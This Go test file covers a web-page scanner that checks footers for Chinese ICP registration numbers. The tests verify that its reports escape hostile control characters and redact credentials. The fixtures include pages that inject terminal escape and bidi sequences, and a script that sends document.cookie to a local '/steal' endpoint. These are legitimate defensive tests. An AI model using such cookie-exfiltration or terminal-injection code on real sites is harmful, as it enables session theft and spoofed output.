package main

import (
	"bytes"
	"context"
	"encoding/xml"
	"errors"
	"github.com/beiancheck/beiancheck/scanner"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// runCLIAsMain runs the program as main does, the final error printed by
// exitCode, and returns its exit code and output.
func runCLIAsMain(t *testing.T, env []string, args ...string) (int, string, string) {
	t.Helper()
	for _, kv := range env {
		k, v, _ := strings.Cut(kv, "=")
		t.Setenv(k, v)
	}
	var stdout, stderr bytes.Buffer
	err := run(context.Background(), args, strings.NewReader(""), &stdout, &stderr)
	return exitCode(err, &stderr), stdout.String(), stderr.String()
}

// hostileRaw are the control characters a hostile page puts in its text:
// an escape sequence (red, clear screen), BEL, backspace, NUL, a
// right-to-left override and C1 controls (NEL, CSI).
var hostileRaw = []string{"\x1b", "\a", "\b", "\x00", "\u202e", "\u0085", "\u009b"}

// hostilePage is a page whose title, class names, id, footer text and
// number's text carry hostileRaw; its number is not linked to MIIT, so
// findings quote the number's selector and text.
const hostilePage = `<!doctype html><html><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>t` + "\x1b[31m\a\b\u202e" + `</title></head>
<body style="margin:0;font-size:16px">
<main><h1>示例科技</h1><p>我们提供企业服务。</p></main>
<footer style="text-align:center;padding:16px;color:#555">
<p class="f` + "\x1b[31m\a\b\u202e" + `x" id="n` + "\x1b[2J\u202e" + `">© 2024 示例科技` + "\x1b[31m\a\b\u202e" + `
<span class="num` + "\x1b[5m" + `">京ICP备2021012345号-1</span>` + "\x1b[0m\a" + `</p>
</footer>
<script>
document.title += "\u0000";
document.getElementById("n\x1b[2J\u202e").firstChild.textContent += "\u0000\u202e";
</script>
</body></html>
`

// brokenPage makes the wait for its short timeouts (late.js, which runs in
// the page's own world, unlike the probe) fail with an error message of
// its own choosing: the browser's error quotes page text.
const brokenPage = `<!doctype html><html><head><meta charset="utf-8"><title>broken</title></head>
<body><footer><p>京ICP备2021012345号-1</p></footer>
<script>
const m = "\x1b[31mred\x07\x08\x00\u202e";
setTimeout(function () {}, 1500);
window.MutationObserver = function () { throw new Error(m) };
</script></body></html>
`

// TestHostileTextIsEscaped scans a page full of control characters, a
// page whose error message is its own, and a listed URL whose query holds
// C1 and bidi characters, with every output; it checks that the summary,
// the annotations, the Markdown summary, the JUnit and HTML reports hold
// none of them raw (the JUnit XML parses), while the JSON report keeps
// them as data.
func TestHostileTextIsEscaped(t *testing.T) {
	needBrowser(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/":
			io.WriteString(w, hostilePage)
		case "/broken":
			io.WriteString(w, brokenPage)
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	dir := t.TempDir()
	out := func(name string) string { return filepath.Join(dir, name) }
	list := out("urls.txt")
	if err := os.WriteFile(list, []byte(srv.URL+"/?q=\u202e\u0085\u009b\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := runCLIAsMain(t, []string{"GITHUB_STEP_SUMMARY="},
		"scan", "--viewport", "desktop", "--annotations", "github", "--summary", "all",
		"--json", out("r.json"), "--markdown", out("r.md"), "--junit", out("r.xml"), "--sarif", out("r.sarif"),
		"--html", out("r.html"), "--urls", list, srv.URL+"/", srv.URL+"/broken")
	if code != exitFailed {
		t.Fatalf("exit %d, want %d (the broken page is not checked)\n%s", code, exitFailed, stderr)
	}
	json := readText(t, out("r.json"))
	for _, data := range []string{`\u001b[31m`, `\u001b[31mred\u0007\b\u0000`, "?q=\u202e\u0085\u009b"} {
		if !strings.Contains(json, data) {
			t.Fatalf("the JSON report does not carry %q: the test pages did not reach the reports\n%s", data, json)
		}
	}
	junit := readText(t, out("r.xml"))
	dec := xml.NewDecoder(strings.NewReader(junit))
	for {
		if _, err := dec.Token(); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatalf("JUnit report is not well-formed XML: %v\n%s", err, junit)
		}
	}
	for name, text := range map[string]string{
		"summary (stderr)":     stderr,
		"annotations (stdout)": stdout,
		"Markdown":             readText(t, out("r.md")),
		"JUnit":                junit,
		"HTML":                 readText(t, out("r.html")),
	} {
		for _, raw := range hostileRaw {
			if strings.Contains(text, raw) {
				t.Errorf("%s holds a raw %q:\n%s", name, raw, text)
			}
		}
		if strings.ContainsRune(text, '\ufffd') {
			t.Errorf("%s replaced a character by U+FFFD instead of showing it:\n%s", name, text)
		}
	}
	if !strings.Contains(stdout, `\x1b[31m`) || !strings.Contains(stderr, `\x1b`) {
		t.Errorf("the annotations or the summary do not show the escapes:\n%s\n%s", stdout, stderr)
	}
}

// TestCredentialsRedacted scans http://user:secret@127.0.0.1:PORT/ with
// every output, a page there and one that is missing, and checks that the
// password appears in no report, line, annotation or message, while the
// browser still sent it.
func TestCredentialsRedacted(t *testing.T) {
	needBrowser(t)
	const secret = "s3cr3tPW"
	var mu sync.Mutex
	authorised := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, pw, ok := r.BasicAuth()
		if !ok || user != "user" || pw != secret {
			w.Header().Set("WWW-Authenticate", `Basic realm="staging"`)
			http.Error(w, "unauthorised", http.StatusUnauthorized)
			return
		}
		mu.Lock()
		authorised++
		mu.Unlock()
		switch r.URL.Path {
		case "/", "/other.html":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, strings.Replace(unlinkedPage, "</footer>", `<a href="other.html">other</a> <a href="missing.html">missing</a></footer>`, 1))
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	host := strings.TrimPrefix(srv.URL, "http://")
	target := "http://user:" + secret + "@" + host + "/"
	dir := t.TempDir()
	out := func(name string) string { return filepath.Join(dir, name) }
	list := out("urls.txt")
	if err := os.WriteFile(list, []byte("http://user:"+secret+"@"+host+"/missing.html\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := runCLIAsMain(t, []string{"GITHUB_STEP_SUMMARY=" + out("step.md")},
		"scan", "--viewport", "desktop", "--annotations", "github", "--summary", "all", "--crawl", "--ignore-robots",
		"--json", out("r.json"), "--markdown", out("r.md"), "--junit", out("r.xml"), "--sarif", out("r.sarif"),
		"--html", out("r.html"), "--jsonl", out("r.jsonl"), "--artifacts", out("art"), "--screenshots", "all",
		"--urls", list, target)
	if code != exitFailed {
		t.Errorf("exit %d, want %d (missing.html is a 404)\n%s", code, exitFailed, stderr)
	}
	mu.Lock()
	if authorised == 0 {
		t.Error("the browser never sent the credentials of the URL")
	}
	mu.Unlock()
	texts := map[string]string{"stdout": stdout, "stderr": stderr}
	for _, name := range []string{"r.json", "r.md", "r.xml", "r.sarif", "r.html", "r.jsonl", "step.md"} {
		texts[name] = readText(t, out(name))
	}
	for name, text := range texts {
		if strings.Contains(text, secret) {
			t.Errorf("%s holds the password:\n%s", name, text)
		}
	}
	for _, name := range []string{"r.json", "r.sarif", "r.jsonl", "stderr"} {
		if !strings.Contains(texts[name], "http://***@"+host+"/") {
			t.Errorf("%s does not name the target as http://***@%s/:\n%s", name, host, texts[name])
		}
	}
	if !strings.Contains(texts["r.json"], "missing.html") || !strings.Contains(texts["r.json"], "other.html") {
		t.Errorf("the JSON report lacks the crawled and listed pages:\n%s", texts["r.json"])
	}
	err := filepath.WalkDir(out("art"), func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.Contains(p, secret) {
			t.Errorf("an artifact's name holds the password: %s", p)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// TestSecretsNotEchoed checks that a malformed --header, --cookie or
// --auth, and a --urls line or target URL that cannot be used, are
// refused without printing the secret they carry.
func TestSecretsNotEchoed(t *testing.T) {
	const secret = "xyzSECRET"
	dir := t.TempDir()
	list := filepath.Join(dir, "urls.txt")
	if err := os.WriteFile(list, []byte("https://user:"+secret+"@[::1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		env  []string
		args []string
	}{
		{"header without colon", nil, []string{"scan", "--header", "Authorization Bearer " + secret, "https://example.com/"}},
		{"header name with space", nil, []string{"scan", "--header", "Authorization Bearer: " + secret, "https://example.com/"}},
		{"cookie without domain", nil, []string{"scan", "--cookie", "session=" + secret, "https://example.com/"}},
		{"cookie without value", nil, []string{"scan", "--cookie", secret + "@example.com", "https://example.com/"}},
		{"auth without colon", nil, []string{"scan", "--auth", secret, "https://example.com/"}},
		{"auth from the environment", []string{"BEIANCHECK_AUTH=" + secret}, []string{"scan", "https://example.com/"}},
		{"bad list line", nil, []string{"scan", "--urls", list}},
		{"bad target", nil, []string{"scan", "https://user:" + secret + "@[::1/"}},
		{"target without host", nil, []string{"scan", "http://user:" + secret + "@/"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.env == nil {
				t.Setenv("BEIANCHECK_AUTH", "")
			}
			code, stdout, stderr := runCLIAsMain(t, tc.env, tc.args...)
			if tc.name == "auth from the environment" {
				if code != exitSetup || !strings.Contains(stderr, "BEIANCHECK_AUTH") {
					t.Errorf("exit %d, want %d naming BEIANCHECK_AUTH: %q", code, exitSetup, stderr)
				}
			} else if code != exitSetup || stderr == "" {
				t.Errorf("exit %d, want %d with a message: %q", code, exitSetup, stderr)
			}
			if strings.Contains(stdout+stderr, secret) {
				t.Errorf("the secret is printed:\n%s%s", stdout, stderr)
			}
		})
	}
}

// TestEchoedCredentialsScrubbed: a page script reads the --cookie (not
// HttpOnly) and echoes it into the number's id, the footer's text, a
// request URL to an inward port (refused, and listed) and a link; the
// value appears in no report, line, journal or message, while the page was
// measured as it is.
func TestEchoedCredentialsScrubbed(t *testing.T) {
	needBrowser(t)
	const secret = "s3cr3tCOOKIE"
	inward := httptest.NewServer(http.NotFoundHandler()) // another port: refused
	defer inward.Close()
	page := strings.Replace(compliantPage, "</footer>", `<p id="echo"></p></footer>
<script>
var v = document.cookie.split('=')[1] || 'none';
document.querySelector('footer a').id = 'sess_' + v;
document.querySelector('footer a').className = 'c-' + v;
document.getElementById('echo').textContent = '会话 ' + v;
new Image().src = '`+inward.URL+`/steal?sess=' + encodeURIComponent(document.cookie);
var a = document.createElement('a'); a.href = '/next?s=' + v; a.textContent = 'next'; document.body.appendChild(a);
</script>`, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	defer srv.Close()
	dir := t.TempDir()
	out := func(name string) string { return filepath.Join(dir, name) }
	code, stdout, stderr := runCLIAsMain(t, nil,
		"scan", "--viewport", "desktop", "--annotations", "github", "--summary", "all",
		"--cookie", "sess="+secret+"@127.0.0.1",
		"--json", out("r.json"), "--markdown", out("r.md"), "--junit", out("r.xml"), "--sarif", out("r.sarif"),
		"--html", out("r.html"), "--jsonl", out("r.jsonl"), "--state", out("state"), srv.URL+"/")
	if code != exitOK {
		t.Errorf("exit %d, want %d (the page is compliant)\n%s", code, exitOK, stderr)
	}
	texts := map[string]string{"stdout": stdout, "stderr": stderr}
	for _, name := range []string{"r.json", "r.md", "r.xml", "r.sarif", "r.html", "r.jsonl", "state/" + scanner.StateFile} {
		texts[name] = readText(t, out(name))
	}
	for name, text := range texts {
		if strings.Contains(text, secret) {
			t.Errorf("%s holds the cookie:\n%s", name, text)
		}
	}
	// The page did echo it: the report shows where, hidden.
	if !strings.Contains(texts["r.json"], "#sess_***") || !strings.Contains(texts["r.json"], "/steal?sess=sess%3D***") {
		t.Errorf("the JSON report does not show the echoes hidden (the page did not run?):\n%s", texts["r.json"])
	}
}
